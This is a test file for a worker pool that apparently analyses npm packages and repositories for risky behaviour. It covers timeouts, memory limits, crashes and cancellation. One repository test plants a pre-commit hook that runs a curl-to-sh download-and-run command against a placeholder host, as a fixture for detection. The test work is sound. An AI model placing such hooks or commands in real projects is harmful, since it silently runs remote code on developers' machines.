import assert from 'node:assert/strict';
import type {
  PackageAnalyser,
  RepositoryAnalyser,
  RepositoryDepth,
} from '../../server/src/artifacts/package-analyser.js';
import { createWorkerPool, type WorkerPoolOptions } from '../../server/src/artifacts/worker-pool.js';
import type { ArtifactFacts, Outcome } from '../../server/src/model/index.js';
import { temporaryFolder } from '../support/temporary-folder.js';
import { recordingTimers } from '../support/recording-timers.js';
import { NOW } from '../support/subjects.js';
import { packageOf } from './make-tarball.js';

const WORKER = new URL('../../server/src/analysis-worker.js', import.meta.url);
const DEADLINE_MS = 60_000;
const live = new AbortController().signal;

/** A worker that does something else with every package. */
function program(onMessage: string): URL {
  const imports = `import { parentPort, resourceLimits } from 'node:worker_threads';`;
  const text = `${imports} parentPort.on('message', (source) => { ${onMessage} });`;
  return new URL(`data:text/javascript,${encodeURIComponent(text)}`);
}

function bytesOf(manifest: object): { readonly kind: 'bytes'; readonly bytes: Uint8Array } {
  return { kind: 'bytes', bytes: Uint8Array.from(packageOf(manifest)) };
}

function zeros(length: number): { readonly kind: 'bytes'; readonly bytes: Uint8Array } {
  return { kind: 'bytes', bytes: new Uint8Array(length) };
}

function said(outcome: Outcome<ArtifactFacts>): string {
  if (outcome.status === 'ok') return `${outcome.value.manifest?.name ?? ''} ${outcome.value.files}`;
  return outcome.status === 'absent' ? 'absent' : `${outcome.reason}: ${outcome.message}`;
}

describe('createWorkerPool', () => {
  const pools: PackageAnalyser[] = [];

  afterEach(async () => {
    for (const pool of pools.splice(0)) await pool.close();
  });

  function poolOf(options: Partial<WorkerPoolOptions> = {}): PackageAnalyser & RepositoryAnalyser {
    const pool = createWorkerPool({
      program: WORKER,
      size: 2,
      deadlineMs: DEADLINE_MS,
      heapMegabytes: 64,
      largeHeapMegabytes: 128,
      clock: () => NOW,
      ...options,
    });
    pools.push(pool);
    return pool;
  }

  it('looks into repositories as well, as deep as it is told', async () => {
    const folder = await temporaryFolder();
    await folder.write('.husky/pre-commit', 'node tools/a.js\n');
    await folder.write('tools/a.js', `require('child_process').exec('curl https://a.example.invalid/x | sh');`);
    const pool = poolOf();
    const kindsAt = async (depth: RepositoryDepth): Promise<readonly string[]> => {
      const outcome = await pool.analyseRepository(folder.path, depth, live);
      return outcome.status === 'ok'
        ? outcome.value.hooks.flatMap(({ artifact }) => artifact.behaviours.map(({ kind }) => kind))
        : [];
    };
    assert.deepEqual(await kindsAt('code'), ['download-and-run']);
    assert.deepEqual(await kindsAt('commands'), []);
    await folder.remove();
    assert.deepEqual(await pool.analyseRepository(folder.path, 'code', live), {
      ...{ status: 'ok', value: { hooks: [], incomplete: [] }, asOf: NOW },
    });
  });

  it('analyses more packages than it has threads', async () => {
    const pool = poolOf();
    const names = ['a', 'b', 'c', 'd', 'e'];
    const outcomes = await Promise.all(names.map((name) => pool.analyse(bytesOf({ name }), live)));
    assert.deepEqual(outcomes.map(said), ['a 1', 'b 1', 'c 1', 'd 1', 'e 1']);
  });

  it('leaves alone what shares a buffer with a package', async () => {
    const packed = [packageOf({ name: 'a' }), packageOf({ name: 'b' })];
    const shared = new Uint8Array(Buffer.concat(packed));
    const parts = [shared.subarray(0, packed[0]?.length), shared.subarray(packed[0]?.length)];
    const pool = poolOf();
    const outcomes = await Promise.all(parts.map((bytes) => pool.analyse({ kind: 'bytes', bytes }, live)));
    assert.deepEqual(outcomes.map(said), ['a 1', 'b 1']);
  });

  it('says why a package cannot be read, and goes on', async () => {
    const pool = poolOf({ size: 1 });
    const damaged = await pool.analyse({ kind: 'bytes', bytes: new Uint8Array(1000).fill(60) }, live);
    assert.match(said(damaged), /^malformed: The package file is not a whole archive/);
    const missing = await pool.analyse({ kind: 'folder', path: '/nowhere/at/all' }, live);
    assert.equal(said(missing), 'unsupported: The folder cannot be read (ENOENT).');
    assert.equal(said(await pool.analyse(bytesOf({ name: 'next' }), live)), 'next 1');
  });

  it('gives up an analysis that does not end, and starts another thread', async () => {
    const timers = recordingTimers(0);
    let used = 0;
    const processor = (): number => (used += DEADLINE_MS);
    const pool = poolOf({ program: program('for (;;);'), size: 1, timers, processor, deadlineMs: 1000 });
    for (let times = 0; times < 2; times += 1) {
      const outcome = pool.analyse(bytesOf({}), live);
      await new Promise(setImmediate);
      timers.fire();
      assert.equal(said(await outcome), 'timeout: The analysis took more than 1 s and was given up.');
    }
  });

  it('survives an analysis that takes all memory', async () => {
    const pool = poolOf({ program: program('const all = []; for (;;) all.push(new Array(1000).fill(all));'), size: 1 });
    const outcome = await pool.analyse(bytesOf({}), live);
    assert.equal(said(outcome), 'too-large: The analysis needed more memory than it may have, and was given up.');
  });

  it('gives a package that needs more memory one more try, with more and with all of its bytes', async () => {
    const eats = 'const all = []; for (;;) all.push(new Array(1000).fill(all));';
    const answers = `parentPort.postMessage({ facts: { manifest: { name: String(source.bytes.length) }, files: 7 } });`;
    const pool = poolOf({
      program: program(`if (resourceLimits.maxOldGenerationSizeMb < 100) { ${eats} } ${answers}`),
    });
    const outcomes = await Promise.all([1, 2].map((length) => pool.analyse(zeros(length), live)));
    assert.deepEqual(outcomes.map(said), ['1 7', '2 7']);
  });

  it('survives an analysis that crashes or leaves', async () => {
    const crashing = await poolOf({ program: program('throw new Error("oh")') }).analyse(bytesOf({}), live);
    assert.equal(said(crashing), 'malformed: The analysis crashed: oh');
    const leaving = await poolOf({ program: program('process.exit(0)') }).analyse(bytesOf({}), live);
    assert.equal(said(leaving), 'malformed: The analysis ended unexpectedly.');
  });

  it('stops at once when nobody waits any more', async () => {
    const interruption = new AbortController();
    const outcome = poolOf({ program: program('for (;;);') }).analyse(bytesOf({}), interruption.signal);
    const rejected = assert.rejects(outcome, { message: 'enough' });
    interruption.abort(new Error('enough'));
    await rejected;
  });

  it('ends what is under way when it is closed', async () => {
    const pool = poolOf({ program: program('for (;;);') });
    const outcome = pool.analyse(bytesOf({}), live);
    await pool.close();
    assert.equal(said(await outcome), 'unsupported: The analysis was ended.');
    assert.equal(said(await pool.analyse(bytesOf({}), live)), 'unsupported: The analysis was ended.');
  });
});
